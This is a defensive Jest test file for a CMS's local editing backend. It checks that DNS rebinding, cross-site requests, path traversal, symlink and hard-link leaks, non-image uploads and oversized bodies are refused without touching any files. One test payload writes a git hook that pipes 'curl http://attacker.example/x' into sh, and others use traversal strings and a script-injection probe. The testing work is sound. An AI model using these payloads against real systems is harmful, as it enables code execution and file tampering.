/** @jest-environment node */
/**
 * Hostile class 10, the CMS's local backend (`npm run edit`,
 * features/cms/localBackend/server.node.ts): a web page in another tab (through DNS
 * rebinding or a cross-site request), a path that climbs out of the CMS's
 * folders, a save that renames an entry over a UI string file or into
 * another collection, a symbolic or hard link a pulled branch placed under
 * content/, an upload that is not an image, a body too large. Each is sent over HTTP to the real
 * server on a scratch repository and must be refused with a JSON error that
 * names the header or path, with nothing read from or written to anywhere
 * else. The attacker's inputs are under fixtures/hostile/cms-backend/.
 */
import { execFileSync } from 'node:child_process';
import { linkSync, mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { BODY_MAX_BYTES } from '../../features/cms/localBackend/server.node';
import { MEDIA_FOLDER } from '../../features/images/paths';
import { SITE_ORIGIN, snapshot, startBackend, type Answer, type Backend } from '../support/localBackend';

// Real servers and files: seconds on a busy machine.
jest.setTimeout(30_000);

const FIXTURES = path.join(__dirname, '..', 'fixtures', 'hostile', 'cms-backend');
const fixture = (name: string) => JSON.parse(readFileSync(path.join(FIXTURES, name), 'utf8')) as string[];
/** A fixture whose paths name the media folder as {media}: wherever MEDIA_FOLDER puts it. */
const inMedia = <T>(name: string) => JSON.parse(readFileSync(path.join(FIXTURES, name), 'utf8').replaceAll('{media}', MEDIA_FOLDER)) as T;
const PATHS = fixture('paths.json');
const UPLOADS = readdirSync(path.join(FIXTURES, 'uploads')).sort();
const HOOK = '#!/bin/sh\necho the hook as it was\n';
const SECRET = 'NETLIFY_AUTH_TOKEN=secret-from-outside';
const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==', 'base64');
const BANNER = 'content/banners/bg/01-sale-orders.md';
const branch = 'main';
const options = { commitMessage: 'Update', useWorkflow: false, status: '' };

/** The requests that would read, list, write or delete `file` if the backend let them. */
const attempts = (file: string) => [
  { action: 'getEntry', params: { branch, path: file } },
  { action: 'entriesByFiles', params: { branch, files: [{ path: file }] } },
  { action: 'entriesByFolder', params: { branch, folder: file, extension: 'md', depth: 1 } },
  { action: 'getMedia', params: { branch, mediaFolder: file } },
  { action: 'getMediaFile', params: { branch, path: file } },
  { action: 'persistEntry', params: { branch, dataFiles: [{ path: file, slug: 'x', raw: '#!/bin/sh\ncurl -s http://attacker.example/x | sh\n' }], assets: [], options } },
  { action: 'persistEntry', params: { branch, dataFiles: [{ path: BANNER, slug: 'x', raw: 'x', newPath: file }], assets: [], options } },
  {
    action: 'persistEntry',
    params: { branch, dataFiles: [{ path: BANNER, slug: 'x', raw: 'x' }], assets: [{ path: file, content: PNG.toString('base64'), encoding: 'base64' }], options },
  },
  { action: 'persistMedia', params: { branch, asset: { path: file, content: PNG.toString('base64'), encoding: 'base64' }, options } },
  { action: 'deleteFile', params: { branch, path: file, options } },
  { action: 'deleteFiles', params: { branch, paths: [file], options } },
];

/** A refusal: the status, a JSON error containing `named`, and no CORS grant beyond the site's. */
function expectRefused(answer: Answer, status: number, named: string): void {
  expect(answer.status).toBe(status);
  expect(answer.headers['content-type']).toMatch(/^application\/json/);
  expect((answer.body as { error: string }).error).toContain(named);
  expect([undefined, SITE_ORIGIN]).toContain(answer.headers['access-control-allow-origin']);
}

let backend: Backend;
let outside: string;
let before: Record<string, string>;

/** A backend on a fresh scratch repository, with what an attacker wants: the repository's hooks and a secret beside it, and files outside it. */
async function fresh(): Promise<void> {
  backend = await startBackend();
  mkdirSync(path.join(backend.repo, '.git', 'hooks'), { recursive: true });
  writeFileSync(path.join(backend.repo, '.git', 'hooks', 'post-receive'), HOOK);
  writeFileSync(path.join(backend.repo, 'site.env'), `${SECRET}\n`);
  outside = path.join(backend.dir, 'outside');
  mkdirSync(outside);
  writeFileSync(path.join(outside, 'secret.env'), `${SECRET}\n`);
  writeFileSync(path.join(outside, 'victim.png'), PNG);
  before = snapshot(backend.dir);
}
// One backend for the file: every request here is refused, and each test checks that nothing changed.
beforeAll(fresh);
afterAll(() => backend.close());

/** Nothing under the scratch folder changed, and the answer carries no secret. */
function expectUntouched(answers: Answer[]): void {
  expect(snapshot(backend.dir)).toEqual(before);
  for (const answer of answers) expect(JSON.stringify(answer.body)).not.toContain('secret-from-outside');
}

describe('requests from anything but the development site', () => {
  const save = { action: 'persistEntry', params: { branch, dataFiles: [{ path: BANNER, slug: '01-sale-orders', raw: 'defaced' }], assets: [], options } };

  it.each(fixture('hosts.json'))('refuses Host %j (DNS rebinding: a page reaching 127.0.0.1 under its own name)', async (template) => {
    const host = template.replace('{port}', new URL(backend.server.url).port);
    const answers = [
      await backend.send({ headers: { Host: host, 'Content-Type': 'application/json' }, body: JSON.stringify(save) }),
      await backend.send({
        headers: { Host: host, Origin: SITE_ORIGIN, 'Content-Type': 'application/json' },
        body: JSON.stringify({ action: 'getEntry', params: { branch, path: BANNER } }),
      }),
      await backend.send({ method: 'OPTIONS', headers: { Host: host, Origin: SITE_ORIGIN, 'Access-Control-Request-Method': 'POST' } }),
    ];
    for (const answer of answers) {
      expectRefused(answer, 403, `not to Host ${JSON.stringify(host)}`);
      expect(answer.headers['access-control-allow-origin']).toBeUndefined();
    }
    expectUntouched(answers);
  });

  it.each(fixture('origins.json'))('refuses Origin %j, preflight included, and grants it no CORS', async (template) => {
    const from = template.replace('{port}', new URL(backend.server.url).port);
    const answers = [
      await backend.post(save, { Origin: from }),
      // A cross-site form needs no preflight: text/plain, a "simple" request.
      await backend.send({ headers: { Host: backend.host, Origin: from, 'Content-Type': 'text/plain' }, body: JSON.stringify(save) }),
      await backend.send({
        method: 'OPTIONS',
        headers: { Host: backend.host, Origin: from, 'Access-Control-Request-Method': 'POST', 'Access-Control-Request-Headers': 'content-type' },
      }),
    ];
    for (const answer of answers) {
      expectRefused(answer, 403, `not a page from ${JSON.stringify(from)}`);
      expect(answer.headers['access-control-allow-origin']).toBeUndefined();
    }
    expectUntouched(answers);
  });

  it('takes JSON only, so no form of another kind writes anything', async () => {
    const answer = await backend.send({ headers: { Host: backend.host, 'Content-Type': 'text/plain' }, body: JSON.stringify(save) });
    expectRefused(answer, 415, 'takes JSON only');
    expectUntouched([answer]);
  });

  it('answers nothing but POST /api/v1, with the path as sent never reaching the disk', async () => {
    for (const requestPath of [
      '/api/v1/../../.git/hooks/post-receive',
      '/api/v1/%2e%2e/%2e%2e/.git/hooks/post-receive',
      '/%2e%2e/.git/config',
      '/content/banners/bg/01-sale-orders.md',
    ]) {
      for (const method of ['GET', 'POST', 'PUT', 'DELETE']) {
        const answer = await backend.send({ method, path: requestPath, headers: { Host: backend.host, 'Content-Type': 'application/json' }, body: JSON.stringify(save) });
        expectRefused(answer, 404, 'answers POST /api/v1 only');
      }
    }
    expectUntouched([]);
  });
});

describe("paths outside the CMS's folders", () => {
  it.each(PATHS.map((file) => [JSON.stringify(file), file]))('refuses %s for every action, naming it', async (_shown, file) => {
    const answers: Answer[] = [];
    for (const body of attempts(file)) {
      const answer = await backend.post(body);
      expectRefused(answer, 403, `The CMS backend refused the path ${JSON.stringify(file.length > 120 ? `${file.slice(0, 120)}…` : file)}`);
      answers.push(answer);
    }
    expectUntouched(answers);
  });

  it('refuses a data file that is not an entry of its collection: markdown elsewhere, a page in the media folder, another file beside the UI strings', async () => {
    const answers: Answer[] = [];
    for (const file of [
      `${MEDIA_FOLDER}/page.html`,
      `${MEDIA_FOLDER}/index.md`,
      'content/blog/en/post.html',
      'content/blog/en/gatsby-node.js',
      'content/blog/index.md',
      'content/blog/fr/post.md',
      'content/blog/bg/drafts/post.md',
      'locales/bg/evil.json',
      'content/extra.json',
    ]) {
      const answer = await backend.post({
        action: 'persistEntry',
        params: { branch, dataFiles: [{ path: file, slug: 'x', raw: '<script>alert(1)</script>' }], assets: [], options },
      });
      expectRefused(answer, 403, `the path ${JSON.stringify(file)}`);
      answers.push(answer);
    }
    // Files collections and single-entry sections allow no delete.
    for (const file of ['locales/bg/common.json', 'content/social.json', 'content/docs/en/readme.md', 'content/home/en/hero.md']) {
      const answer = await backend.post({ action: 'deleteFiles', params: { branch, paths: [file], options } });
      expectRefused(answer, 403, `the path ${JSON.stringify(file)}`);
      answers.push(answer);
    }
    expectUntouched(answers);
  });
});

describe('saves that put an entry where it does not belong', () => {
  const save = (dataFiles: { path: string; newPath?: string }[]) =>
    backend.post({
      action: 'persistEntry',
      params: { branch, dataFiles: dataFiles.map((file) => ({ slug: 'x', raw: '---\ntitle: Defaced\n---\n', ...file })), assets: [], options },
    });

  it.each(inMedia<{ path: string; newPath: string }[]>('moves.json').map((move) => [`${move.path} -> ${move.newPath}`, move]))(
    'refuses the rename %s, naming the new path, and writes nothing',
    async (_shown, move) => {
      const answer = await save([move]);
      expectRefused(answer, 403, move.newPath);
      expect((answer.body as { error: string }).error).toMatch(/^The CMS backend refused (the path|to move)/);
      expectUntouched([answer]);
    },
  );

  it('refuses a rename in every language that leaves a language folder, or gives the languages two names', async () => {
    const en = 'content/banners/en/01-sale-orders.md';
    const bg = 'content/banners/bg/01-sale-orders.md';
    const answers = [
      await save([
        { path: en, newPath: 'locales/en/common.json' },
        { path: bg, newPath: 'locales/bg/common.json' },
      ]),
      await save([
        { path: en, newPath: 'content/banners/bg/01-orders.md' },
        { path: bg, newPath: 'content/banners/en/01-orders.md' },
      ]),
      await save([
        { path: en, newPath: 'content/banners/en/01-orders.md' },
        { path: bg, newPath: 'content/banners/bg/02-features.md' },
      ]),
      await save([{ path: en, newPath: 'content/banners/en/01-orders.md' }, { path: bg }]),
    ];
    expectRefused(answers[0], 403, `to move ${en} to "locales/en/common.json"`);
    expectRefused(answers[1], 403, `to move ${en} to "content/banners/bg/01-orders.md"`);
    expectRefused(answers[2], 403, 'content/banners/bg/02-features.md is named otherwise');
    expectRefused(answers[3], 403, `to move ${en} without ${bg}`);
    expectUntouched(answers);
  });

  it("refuses a Bulgarian post's save that writes beyond its one file in content/blog/bg/: its English namesake, the blog's folder, a rename out", async () => {
    const post = 'content/blog/bg/godishna-inventarizatsiya.md';
    const answers = [
      // Two collections' entries in one save: Decap saves a post of blog_bg as its one file.
      await save([{ path: post }, { path: 'content/blog/en/godishna-inventarizatsiya.md' }]),
      await save([{ path: 'content/blog/en/x.md' }, { path: 'content/blog/bg/x.md' }]),
      // The blog's folder holds no entries of its own.
      await save([{ path: 'content/blog/x.md' }]),
      await save([{ path: post }, { path: 'content/blog/godishna-inventarizatsiya.md' }]),
      // A rename stays in content/blog/bg/.
      await save([{ path: post, newPath: 'content/blog/en/godishna-inventarizatsiya.md' }]),
      await save([{ path: post, newPath: 'content/blog/x.md' }]),
      // Both languages renamed at once are two entries.
      await save([
        { path: 'content/blog/en/stock-control-habits.md', newPath: 'content/blog/en/habits.md' },
        { path: 'content/blog/bg/stock-control-habits.md', newPath: 'content/blog/bg/habits.md' },
      ]),
    ];
    expectRefused(answers[0], 403, `to save ${post} and content/blog/en/godishna-inventarizatsiya.md together`);
    expectRefused(answers[0], 403, 'lies elsewhere (content/blog/en/)');
    expectRefused(answers[1], 403, 'lies elsewhere (content/blog/bg/)');
    expectRefused(answers[2], 403, 'The CMS backend refused the path "content/blog/x.md"');
    expectRefused(answers[3], 403, 'The CMS backend refused the path "content/blog/godishna-inventarizatsiya.md"');
    expectRefused(answers[4], 403, `to move ${post} to "content/blog/en/godishna-inventarizatsiya.md": an entry is renamed within its own folder, content/blog/bg/`);
    expectRefused(answers[5], 403, 'The CMS backend refused the path "content/blog/x.md"');
    expectRefused(answers[6], 403, 'lies elsewhere (content/blog/bg/)');
    expectUntouched(answers);
  });

  it('refuses a rename onto an entry that exists, which would replace it', async () => {
    const answers = [
      await save([
        { path: 'content/banners/en/01-sale-orders.md', newPath: 'content/banners/en/02-features.md' },
        { path: 'content/banners/bg/01-sale-orders.md', newPath: 'content/banners/bg/02-features.md' },
      ]),
      await save([{ path: 'content/blog/bg/stock-control-habits.md', newPath: 'content/blog/bg/godishna-inventarizatsiya.md' }]),
    ];
    expectRefused(answers[0], 409, 'content/banners/en/02-features.md already exists');
    expectRefused(answers[1], 409, 'content/blog/bg/godishna-inventarizatsiya.md already exists');
    expectUntouched(answers);
  });

  it.each(inMedia<string[][]>('saves.json').map((files) => [files.join(' + '), files]))('refuses to save %s as one entry, naming the second', async (_shown, files) => {
    const answer = await save(files.map((file) => ({ path: file })));
    expectRefused(answer, 403, `The CMS backend refused to save ${files[0]} and ${files[1]} together`);
    expectUntouched([answer]);
  });

  it.each(inMedia<string[][]>('deletes.json').map((files) => [files.join(' + '), files]))('refuses to delete %s in one request, and deletes nothing', async (_shown, files) => {
    const answer = await backend.post({ action: 'deleteFiles', params: { branch, paths: files, options } });
    expectRefused(answer, 403, 'The CMS backend refused to delete');
    expectRefused(answer, 403, files[1]);
    expectUntouched([answer]);
  });

  it.each(inMedia<string[]>('media-paths.json'))(`refuses an upload to %s: uploads go into ${MEDIA_FOLDER}/ itself`, async (file) => {
    const asset = { path: file, content: PNG.toString('base64'), encoding: 'base64' };
    const answers = [
      await backend.post({ action: 'persistMedia', params: { branch, asset, options } }),
      await backend.post({ action: 'persistEntry', params: { branch, dataFiles: [{ path: BANNER, slug: '01-sale-orders', raw: 'defaced' }], assets: [asset], options } }),
    ];
    for (const answer of answers) expectRefused(answer, 403, `The CMS backend refused the path ${JSON.stringify(file)}`);
    expectUntouched(answers);
  });
});

describe("symbolic links and special files under the CMS's folders", () => {
  // Each test plants its own links: a fresh repository each.
  const restart = async () => {
    await backend.close();
    await fresh();
  };
  beforeEach(restart);
  afterAll(restart);
  /** Plants a link at `file` (relative to the repository) pointing at `target`; refreshes the "before" picture. */
  const link = (target: string, file: string) => {
    const full = path.join(backend.repo, file);
    rmSync(full, { recursive: true, force: true });
    mkdirSync(path.dirname(full), { recursive: true });
    symlinkSync(target, full);
    before = snapshot(backend.dir);
  };

  it('neither reads nor writes through a link to a file outside content/ (inside the repository or outside it)', async () => {
    link(path.join(outside, 'secret.env'), 'content/blog/en/leak.md');
    link('../../../site.env', 'content/blog/bg/leak.md');
    link(path.join(outside, 'secret.env'), 'locales/bg/common.json');
    const answers: Answer[] = [];
    for (const file of ['content/blog/en/leak.md', 'content/blog/bg/leak.md', 'locales/bg/common.json']) {
      for (const body of [
        { action: 'getEntry', params: { branch, path: file } },
        { action: 'persistEntry', params: { branch, dataFiles: [{ path: file, slug: 'leak', raw: 'overwritten' }], assets: [], options } },
      ]) {
        const answer = await backend.post(body);
        expectRefused(answer, 403, `${file} is a symbolic link`);
        answers.push(answer);
      }
    }
    expectUntouched(answers);
  });

  it("leaves a link out of a folder's listing, saying so, and lists the rest", async () => {
    link(path.join(outside, 'secret.env'), 'content/blog/en/leak.md');
    const warnings = jest.spyOn(console, 'warn').mockImplementation(() => undefined);
    const answer = await backend.post({ action: 'entriesByFolder', params: { branch, folder: 'content/blog/en', extension: 'md', depth: 1 } });
    expect(answer.status).toBe(200);
    const files = (answer.body as { file: { path: string } }[]).map((entry) => entry.file.path);
    expect(files).toContain('content/blog/en/stock-control-habits.md');
    expect(files).not.toContain('content/blog/en/leak.md');
    warnings.mockRestore();
    expectUntouched([answer]);
  });

  it('neither lists, reads nor writes through a linked folder: a language folder, or the media folder itself', async () => {
    mkdirSync(path.join(outside, 'media'));
    writeFileSync(path.join(outside, 'media', 'victim.png'), PNG);
    link(outside, 'content/banners/bg');
    link(path.join(outside, 'media'), MEDIA_FOLDER);
    const requests = [
      { body: { action: 'getEntry', params: { branch, path: 'content/banners/bg/secret.env' } }, named: 'content/banners/bg is a symbolic link' },
      {
        body: { action: 'persistEntry', params: { branch, dataFiles: [{ path: 'content/banners/bg/04-new.md', slug: '04-new', raw: 'x' }], assets: [], options } },
        named: 'content/banners/bg is a symbolic link',
      },
      { body: { action: 'getMedia', params: { branch, mediaFolder: MEDIA_FOLDER } }, named: `${MEDIA_FOLDER} is a symbolic link` },
      {
        body: { action: 'persistMedia', params: { branch, asset: { path: `${MEDIA_FOLDER}/victim.png`, content: PNG.toString('base64'), encoding: 'base64' }, options } },
        named: `${MEDIA_FOLDER} is a symbolic link`,
      },
      { body: { action: 'deleteFiles', params: { branch, paths: [`${MEDIA_FOLDER}/victim.png`], options } }, named: `${MEDIA_FOLDER} is a symbolic link` },
    ];
    const answers: Answer[] = [];
    for (const { body, named } of requests) {
      const answer = await backend.post(body);
      expectRefused(answer, 403, named);
      answers.push(answer);
    }
    expectUntouched(answers);
  });

  it('does not write through a link planted where an upload goes', async () => {
    link(path.join(outside, 'victim.png'), `${MEDIA_FOLDER}/photo.png`);
    const answer = await backend.post({
      action: 'persistMedia',
      params: { branch, asset: { path: `${MEDIA_FOLDER}/photo.png`, content: PNG.toString('base64'), encoding: 'base64' }, options },
    });
    expectRefused(answer, 403, `${MEDIA_FOLDER}/photo.png is a symbolic link`);
    expectUntouched([answer]);
  });

  it('does not write through a hard link to a file outside, nor empty it', async () => {
    linkSync(path.join(outside, 'secret.env'), path.join(backend.repo, 'content', 'blog', 'en', 'hard.md'));
    before = snapshot(backend.dir);
    const answer = await backend.post({
      action: 'persistEntry',
      params: { branch, dataFiles: [{ path: 'content/blog/en/hard.md', slug: 'hard', raw: 'overwritten' }], assets: [], options },
    });
    expectRefused(answer, 403, 'content/blog/en/hard.md has other hard links');
    expectUntouched([answer]);
  });

  /** Every read the API offers, of `entry` (a post) and `media` (an image), and the folders that hold them. */
  const reads = (entry: string, media: string) => ({
    refused: [
      { action: 'getEntry', params: { branch, path: entry } },
      { action: 'entriesByFiles', params: { branch, files: [{ path: entry, label: 'Leak' }] } },
      { action: 'getMediaFile', params: { branch, path: media } },
    ],
    listings: [
      {
        body: { action: 'entriesByFolder', params: { branch, folder: 'content/blog/en', extension: 'md', depth: 1 } },
        left: entry,
        kept: 'content/blog/en/stock-control-habits.md',
      },
      { body: { action: 'getMedia', params: { branch, mediaFolder: MEDIA_FOLDER } }, left: media, kept: `${MEDIA_FOLDER}/kept.png` },
    ],
  });

  /** Runs every read of `entry` and `media`: the direct reads refused naming `named`, the listings leaving them out; nothing of `secret` in any answer. */
  async function expectNoRead(entry: string, media: string, named: (file: string) => string, secret: Buffer): Promise<void> {
    writeFileSync(path.join(backend.repo, MEDIA_FOLDER, 'kept.png'), PNG);
    before = snapshot(backend.dir);
    const { refused, listings } = reads(entry, media);
    const answers: Answer[] = [];
    for (const body of refused) {
      const answer = await backend.post(body);
      expectRefused(answer, 403, named(body.action === 'getMediaFile' ? media : entry));
      answers.push(answer);
    }
    for (const { body, left, kept } of listings) {
      const answer = await backend.post(body);
      expect(answer.status).toBe(200);
      const files = (answer.body as { file?: { path: string }; path?: string }[]).map((item) => item.file?.path ?? item.path);
      expect(files).toContain(kept);
      expect(files).not.toContain(left);
      answers.push(answer);
    }
    for (const answer of answers) expect(JSON.stringify(answer.body)).not.toContain(secret.toString('base64'));
    expectUntouched(answers);
  }

  it('reads no file with other hard links, by any read the API offers: its other name may be a file outside the repository', async () => {
    const secretImage = Buffer.concat([PNG, Buffer.from(SECRET)]);
    writeFileSync(path.join(outside, 'private.png'), secretImage);
    mkdirSync(path.join(backend.repo, MEDIA_FOLDER), { recursive: true });
    linkSync(path.join(outside, 'secret.env'), path.join(backend.repo, 'content', 'blog', 'en', 'id-ed25519.md'));
    linkSync(path.join(outside, 'private.png'), path.join(backend.repo, MEDIA_FOLDER, 'Private.PNG'));
    await expectNoRead('content/blog/en/id-ed25519.md', `${MEDIA_FOLDER}/Private.PNG`, (file) => `${file} has other hard links (2 names for one file)`, secretImage);
  });

  it('reads no file through a symbolic link, by any read the API offers', async () => {
    const secretImage = Buffer.concat([PNG, Buffer.from(SECRET)]);
    writeFileSync(path.join(outside, 'private.png'), secretImage);
    mkdirSync(path.join(backend.repo, MEDIA_FOLDER), { recursive: true });
    link(path.join(outside, 'secret.env'), 'content/blog/en/passwd.md');
    link('../../../outside/private.png', `${MEDIA_FOLDER}/avatar.png`);
    await expectNoRead('content/blog/en/passwd.md', `${MEDIA_FOLDER}/avatar.png`, (file) => `${file} is a symbolic link`, secretImage);
  });

  it('refuses a FIFO instead of waiting on it', async () => {
    execFileSync('mkfifo', [path.join(backend.repo, 'content', 'blog', 'en', 'pipe.md')]);
    const answers = [
      await backend.post({ action: 'getEntry', params: { branch, path: 'content/blog/en/pipe.md' } }),
      await backend.post({ action: 'persistEntry', params: { branch, dataFiles: [{ path: 'content/blog/en/pipe.md', slug: 'pipe', raw: 'x' }], assets: [], options } }),
    ];
    for (const answer of answers) expectRefused(answer, 403, 'content/blog/en/pipe.md is not a regular file');
  });
});

describe('uploads that are not images', () => {
  it.each(UPLOADS)("refuses %s as an upload and as an entry's asset, naming it, and writes nothing", async (name) => {
    const content = readFileSync(path.join(FIXTURES, 'uploads', name)).toString('base64');
    const file = `${MEDIA_FOLDER}/${name}`;
    const answers = [
      await backend.post({ action: 'persistMedia', params: { branch, asset: { path: file, content, encoding: 'base64' }, options } }),
      // Everything is checked before anything is written: the entry that carries it is not saved either.
      await backend.post({
        action: 'persistEntry',
        params: { branch, dataFiles: [{ path: BANNER, slug: '01-sale-orders', raw: 'defaced' }], assets: [{ path: file, content, encoding: 'base64' }], options },
      }),
    ];
    for (const answer of answers) {
      expectRefused(answer, 415, `${file}: `);
      expect((answer.body as { error: string }).error).toMatch(/the CMS uploads PNG, JPEG, GIF, WebP, AVIF images/);
    }
    expectUntouched(answers);
  });
});

describe('oversized bodies', () => {
  it(`refuses a body over ${BODY_MAX_BYTES} bytes before writing anything`, async () => {
    const content = 'A'.repeat(BODY_MAX_BYTES);
    const answer = await backend.post({ action: 'persistMedia', params: { branch, asset: { path: `${MEDIA_FOLDER}/huge.png`, content, encoding: 'base64' }, options } });
    expectRefused(answer, 413, 'larger than the CMS backend takes');
    expectUntouched([answer]);
  });
});
